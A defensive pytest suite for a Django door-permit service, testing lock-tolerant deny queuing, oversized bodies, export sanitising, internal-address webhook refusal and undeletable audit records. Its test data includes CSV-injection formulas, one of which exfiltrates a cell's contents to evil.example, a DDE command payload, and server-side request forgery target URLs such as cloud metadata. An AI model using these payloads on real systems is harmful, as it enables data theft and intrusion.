"""The door and the decision log under abuse: a database that cannot take writes, oversized bodies, formulas and
control characters in subjects, pushes aimed at internal addresses, and attempts to delete the evidence."""

from __future__ import annotations

import io
import json
import shutil
import sqlite3
import time
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connections
from django.utils import timezone
from openpyxl import load_workbook
from rest_framework.test import APIClient

from lms.audit.models import AuditEntry
from lms.permits import cache, deny_queue, push, services, tally
from lms.permits.models import Decision, DecisionTally, Permit, PermitEvent, PushDelivery, WebhookEndpoint
from lms.requirements.models import Area
from lms.roles import AUDITOR, HR, SECURITY_OFFICER
from tests.certificates.factories import issue
from tests.factories import UserFactory
from tests.lms.factories import issued_permit, permit_world

DECIDE = "/api/permits/decide/"


def door(areas) -> APIClient:
    _controller, token = services.controller_create(name=f"门禁{len(areas)}{Area.objects.count()}", areas=areas)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Controller {token}")
    return client


def staff(role: str):
    from django.contrib.auth.models import Group

    user = UserFactory()
    user.groups.add(Group.objects.get(name=role))
    return user


# --- A write-locked database: the door answers at once, the deny waits on disk and is written once ------------


@pytest.fixture
def queue_dir(tmp_path, settings):
    settings.LMS_PERMIT_DENY_QUEUE_DIR = str(tmp_path / "deny-queue")
    deny_queue._waiting = False
    yield Path(settings.LMS_PERMIT_DENY_QUEUE_DIR)
    deny_queue._waiting = False


@pytest.fixture
def file_db(transactional_db, tmp_path, queue_dir):
    """The test database copied to a file and used through a connection set up as the demo's (WAL, 20 s busy
    timeout), so that a second connection can hold SQLite's write lock as another process would."""
    default = connections["default"]
    if default.vendor != "sqlite":
        pytest.skip("holds SQLite's write lock")
    path = tmp_path / "door.sqlite3"
    default.ensure_connection()
    target = sqlite3.connect(path)
    default.connection.backup(target)
    target.execute("PRAGMA journal_mode=WAL")
    target.close()
    options = {"init_command": "PRAGMA journal_mode=WAL;", "transaction_mode": "IMMEDIATE", "timeout": 20}
    wrapper = type(default)({**default.settings_dict, "NAME": str(path), "OPTIONS": options}, "default")
    connections["default"] = wrapper
    cache.forget()
    tally.flush()
    try:
        yield path
    finally:
        tally._pending.clear()
        tally._denies = False
        wrapper.close()
        connections["default"] = default
        cache.forget()


class WriteLock:
    """Another process holding SQLite's write lock (``BEGIN IMMEDIATE``) until released."""

    def __init__(self, path: Path):
        self.connection = sqlite3.connect(path, isolation_level=None, timeout=0)
        self.connection.execute("BEGIN IMMEDIATE")

    def rows(self, sql: str) -> list:
        return self.connection.execute(sql).fetchall()  # reads work beside the lock (WAL)

    def release(self) -> None:
        self.connection.execute("ROLLBACK")
        self.connection.close()


def timed_post(client, data) -> tuple[dict, int, float]:
    start = time.monotonic()
    response = client.post(DECIDE, data, format="json")
    return response.json(), response.status_code, time.monotonic() - start


def deny_entries(subject: str) -> list[AuditEntry]:
    return [e for e in AuditEntry.objects.filter(kind="decision", action="deny") if e.data["subject"] == subject]


def test_under_a_write_lock_the_door_answers_deny_at_once_and_the_deny_is_written_once_afterwards(file_db, queue_dir):
    world = permit_world()
    client = door([world["area"]])
    lock = WriteLock(file_db)
    try:
        body, status, seconds = timed_post(client, {"subject": "STRANGER", "area": "ops"})
        assert (status, body["allow"], body["reasons"]) == (200, False, ["unknown_person"])
        assert seconds < 5  # the connection's busy timeout is 20 s: the door did not wait for it
        assert lock.rows("SELECT COUNT(*) FROM lms_permits_decision") == [(0,)]  # not in the database yet ...
        assert sum(f.stat().st_size for f in queue_dir.iterdir()) > 0  # ... but on disk
    finally:
        lock.release()

    body, status, _seconds = timed_post(client, {"subject": "NEXT", "area": "ops"})  # the next write replays
    assert body["allow"] is False
    assert list(Decision.objects.filter(subject="STRANGER").values_list("allow", "reasons")) == [
        (False, ["unknown_person"])
    ]
    tally.flush()
    assert len(deny_entries("STRANGER")) == 1 and len(deny_entries("NEXT")) == 1
    assert not deny_queue.pending()

    call_command("permits_replay_denies", stdout=io.StringIO())  # again: nothing twice
    tally.flush()
    assert Decision.objects.filter(subject="STRANGER").count() == 1 and len(deny_entries("STRANGER")) == 1


@pytest.mark.django_db(transaction=True)
def test_a_row_the_database_refuses_for_good_does_not_hold_back_the_other_denies(queue_dir):
    """A queued row that can never be written (its area was deleted meanwhile) is set aside in rejected-*.jsonl,
    kept for an operator; the denies queued beside it reach the log and the ledger."""
    world = permit_world()
    now = timezone.now()
    deny_queue.put((now, None, world["area"].pk, None, None, "FIRST", False, ["unknown_person"], None))
    deny_queue.put((now, None, 999_999_999, None, None, "ORPHAN", False, ["unknown_person"], None))
    deny_queue.put((now, None, world["area"].pk, None, None, "LAST", False, ["unknown_person"], None))

    assert deny_queue.replay() == 2
    tally.flush()
    assert sorted(Decision.objects.values_list("subject", flat=True)) == ["FIRST", "LAST"]
    assert len(deny_entries("FIRST")) == 1 and len(deny_entries("LAST")) == 1
    rejected = list(queue_dir.glob("rejected-*.jsonl"))
    assert len(rejected) == 1 and json.loads(rejected[0].read_text())["subject"] == "ORPHAN"
    assert not deny_queue.pending()
    assert deny_queue.replay() == 0 and Decision.objects.count() == 2  # set aside once, never retried


def test_a_replay_repeated_after_a_crash_writes_nothing_twice(file_db, queue_dir):
    world = permit_world()
    client = door([world["area"]])
    lock = WriteLock(file_db)
    try:
        timed_post(client, {"subject": "GHOST", "area": "ops"})
        timed_post(client, {"subject": "GHOST2", "area": "ops"})
    finally:
        lock.release()
    saved = queue_dir.parent / "saved"
    shutil.copytree(queue_dir, saved)
    deny_queue._waiting = False  # the process died: its memory with it, the files stay

    out = io.StringIO()
    call_command("permits_replay_denies", stdout=out)
    assert out.getvalue().startswith("2 queued decisions written, 2 denies chained")
    for number, file in enumerate(saved.iterdir()):  # a replay that died after its commit left them
        shutil.copy(file, queue_dir / f"replaying-crashed{number}.jsonl")
    call_command("permits_push_due", stdout=io.StringIO())

    assert sorted(Decision.objects.values_list("subject", flat=True)) == ["GHOST", "GHOST2"]
    assert len(deny_entries("GHOST")) == 1 and len(deny_entries("GHOST2")) == 1
    assert not deny_queue.pending()


def test_under_a_write_lock_an_allow_stays_an_allow_and_its_count_is_written_afterwards(file_db, queue_dir):
    world = permit_world()
    issued_permit(world)
    issue(user=world["person"].user, certification=world["certification"])
    client = door([world["area"]])
    lock = WriteLock(file_db)
    try:
        body, status, seconds = timed_post(client, {"subject": "B100", "area": "ops"})
        assert (status, body["allow"]) == (200, True)  # not a deny "error" after 20 s
        assert seconds < 5
    finally:
        lock.release()
    tally.flush()
    assert sum(DecisionTally.objects.values_list("count", flat=True)) == 1


# --- Oversized and malformed bodies: 400 with a JSON error, never a 500 ------------------------------------------


@pytest.fixture
def client(db):
    world = permit_world()
    return door([world["area"]])


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (b'{"subject": "' + b"A" * (11 * 1024 * 1024) + b'", "area": "ops"}', "application/json"),
        (b"subject=B100&area=ops&pad=" + b"A" * (11 * 1024 * 1024), "application/x-www-form-urlencoded"),
        (b"&".join(b"f%d=1" % i for i in range(2000)) + b"&subject=B100&area=ops", "application/x-www-form-urlencoded"),
        (b"subject=B100&area=ops&" + b"&".join(b"f%d=1" % i for i in range(300)), "application/x-www-form-urlencoded"),
        (json.dumps({f"f{i}": 1 for i in range(200)} | {"subject": "B100", "area": "ops"}).encode(),
         "application/json"),
        (b"[" * 3000 + b"]" * 3000, "application/json"),
        (b"A" * (11 * 1024 * 1024), "text/plain"),
        (b"--x\r\nContent-Disposition: form-data; name=\"subject\"\r\n\r\n" + b"A" * (11 * 1024 * 1024) + b"\r\n--x--",
         "multipart/form-data; boundary=x"),
    ],
    ids=["json-11MB", "form-11MB", "form-2000-fields", "form-300-fields", "json-200-fields", "json-deep",
         "text-11MB", "multipart-11MB"],
)
def test_oversized_bodies_get_400_with_a_json_deny(client, body, content_type, caplog):
    response = client.generic("POST", DECIDE, body, content_type=content_type)
    assert response.status_code == 400
    data = response.json()
    assert data["allow"] is False and data["error"]["code"] == "bad_request"
    assert not [r for r in caplog.records if r.levelname in ("ERROR", "CRITICAL")]  # no traceback in the log


def test_a_small_form_still_decides(client):
    form = "application/x-www-form-urlencoded"
    response = client.generic("POST", DECIDE, b"subject=NOBODY&area=ops", content_type=form)
    assert response.status_code == 200 and response.json()["reasons"] == ["unknown_person"]


# --- Exports: formulas neutralised, control characters dropped ---------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("role", [SECURITY_OFFICER, AUDITOR])
def test_decision_log_exports_neutralise_formulas_and_survive_nul(client, role):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    for subject in (formula, "+cmd|'/C calc'!A0", "@SUM(1)"):
        assert client.post(DECIDE, {"subject": subject, "area": "ops"}, format="json").status_code == 200
    # A door never sends control characters: refused, nothing logged (PostgreSQL could not even store a NUL)...
    decisions = Decision.objects.count()
    for subject in ("B1\x00X", "B1\x07X"):
        assert client.post(DECIDE, {"subject": subject, "area": "ops"}, format="json").status_code == 400
    assert Decision.objects.count() == decisions
    # ...but one that reached the log another way (an older version, a restore) must not break the exports.
    Decision.objects.create(at=timezone.now(), subject="B1\x07\x1bX", allow=False, reasons=["unknown_person"])
    browser = APIClient()
    browser.force_login(staff(role))

    csv_response = browser.get("/admin/decisions/?export=csv")
    assert csv_response.status_code == 200
    text = b"".join(csv_response.streaming_content).decode()
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text
    assert "\x07" not in text and "\x1b" not in text and "B1X" in text
    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text

    xlsx_response = browser.get("/admin/decisions/?export=xlsx")
    assert xlsx_response.status_code == 200
    content = b"".join(xlsx_response.streaming_content) if xlsx_response.streaming else xlsx_response.content
    sheet = load_workbook(io.BytesIO(content)).active
    values = {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert "'" + formula in values and "B1X" in values
    assert not any(v.startswith(("=", "+", "@")) for v in values)


# --- Pushes never reach internal addresses ------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "http://access.example.com/hook",  # plain http
        "https://127.0.0.1/hook",
        "https://localhost/hook",
        "https://169.254.169.254/latest/meta-data/",
        "https://10.1.2.3/hook",
        "https://192.168.0.10/hook",
        "https://[::1]/hook",
        "https://[::ffff:127.0.0.1]/hook",
        "https://2130706433/hook",  # 127.0.0.1 as one number
        "https://0x7f.1/hook",
        "https://user:pw@access.example.com/hook",
        "ftp://access.example.com/hook",
    ],
)
def test_an_endpoint_url_to_an_internal_address_is_refused_by_the_admin_form(url):
    officer = staff(SECURITY_OFFICER)
    area = Area.objects.create(name="运营区域", code="ops")
    browser = APIClient()
    browser.force_login(officer)
    response = browser.post("/admin/access_control_endpoints/new/", {
        "name": "门禁系统", "url": url, "secret": "s" * 32, "areas": [area.pk], "is_active": "on",
    })
    assert response.status_code == 200  # the form again, with the error
    assert not WebhookEndpoint.objects.exists()


@pytest.mark.django_db
def test_a_name_that_resolves_to_an_internal_address_at_send_time_is_refused(monkeypatch):
    world = permit_world()
    endpoint = WebhookEndpoint.objects.create(name="门禁", url="https://door.example.com/hook", secret="s")
    endpoint.areas.add(world["area"])
    monkeypatch.setattr("socket.getaddrinfo", lambda *a, **k: [(2, 1, 6, "", ("10.0.0.5", 443))])
    sent = []
    monkeypatch.setattr(push, "_post", lambda *args: sent.append(args) or 204)
    delivery = PushDelivery.objects.create(endpoint=endpoint, event="x", payload={"employee_number": "E1"},
                                           next_attempt_at=timezone.now())
    assert push.deliver(delivery) is False
    delivery.refresh_from_db()
    assert sent == [] and delivery.status == PushDelivery.Status.FAILED and "internal" in delivery.last_error


@pytest.mark.django_db
def test_an_allowed_internal_host_is_reached_at_the_checked_address(monkeypatch, settings):
    settings.LMS_PERMIT_WEBHOOK_ALLOWED_HOSTS = ["door.internal"]
    world = permit_world()
    endpoint = WebhookEndpoint.objects.create(name="门禁", url="https://door.internal/hook", secret="s")
    endpoint.areas.add(world["area"])
    monkeypatch.setattr("socket.getaddrinfo", lambda *a, **k: [(2, 1, 6, "", ("10.0.0.5", 443))])
    sent = []
    monkeypatch.setattr(push, "_post", lambda url, address, body, headers: sent.append((url, address)) or 204)
    delivery = PushDelivery.objects.create(endpoint=endpoint, event="x", payload={}, next_attempt_at=timezone.now())
    assert push.deliver(delivery) is True
    assert sent == [("https://door.internal/hook", "10.0.0.5")]


# --- The evidence cannot be deleted ---------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("role", [HR, SECURITY_OFFICER])
def test_no_one_deletes_a_decision_or_adds_one_through_the_admin(client, role):
    client.post(DECIDE, {"subject": "NOBODY", "area": "ops"}, format="json")
    row = Decision.objects.get()
    browser = APIClient()
    browser.force_login(staff(role))
    for url in (f"/admin/decisions/delete/{row.pk}/", f"/admin/decisions/edit/{row.pk}/", "/admin/decisions/new/",
                f"/admin/push_deliveries/delete/{row.pk}/", "/admin/push_deliveries/new/"):
        assert browser.get(url).status_code == 404, url
        assert browser.post(url, {}).status_code == 404, url
    superuser = UserFactory(is_superuser=True, is_staff=True)
    browser.force_login(superuser)
    assert browser.post(f"/admin/decisions/delete/{row.pk}/").status_code == 404
    assert Decision.objects.filter(pk=row.pk).exists()
    with pytest.raises(Exception, match="never deleted"):
        row.delete()
    with pytest.raises(Exception, match="never deleted"):
        Decision.objects.all().delete()
    assert Decision.objects.count() == 1


@pytest.mark.django_db
def test_a_permit_cannot_be_deleted_with_its_history():
    world = permit_world()
    permit = issued_permit(world)
    browser = APIClient()
    browser.force_login(staff(HR))
    assert browser.post(f"/admin/permits/delete/{permit.pk}/").status_code == 403
    browser.force_login(UserFactory(is_superuser=True, is_staff=True))
    assert browser.post(f"/admin/permits/delete/{permit.pk}/").status_code == 403
    with pytest.raises(Exception, match="never deleted"):
        permit.delete()
    with pytest.raises(Exception, match="never deleted"):
        Permit.objects.filter(pk=permit.pk).delete()
    with pytest.raises(Exception, match="protected"):
        world["person"].delete()  # a cascade from the holder stops at the permit's events
    assert Permit.objects.filter(pk=permit.pk).exists() and PermitEvent.objects.filter(permit=permit).count() == 4


# --- The health endpoint ------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_healthz_is_200_with_a_tiny_body_and_503_when_the_database_is_gone(monkeypatch):
    browser = APIClient()
    response = browser.get("/healthz")
    assert (response.status_code, response.content) == (200, b'{"status":"ok"}')
    assert "no-cache" in response["Cache-Control"] or "no-store" in response["Cache-Control"]

    from django.db.backends.utils import CursorWrapper

    def broken(self, sql, params=None):
        raise sqlite3.OperationalError("unable to open database file")

    monkeypatch.setattr(CursorWrapper, "execute", broken)
    response = browser.get("/healthz")
    assert (response.status_code, response.content) == (503, b'{"status":"unavailable"}')
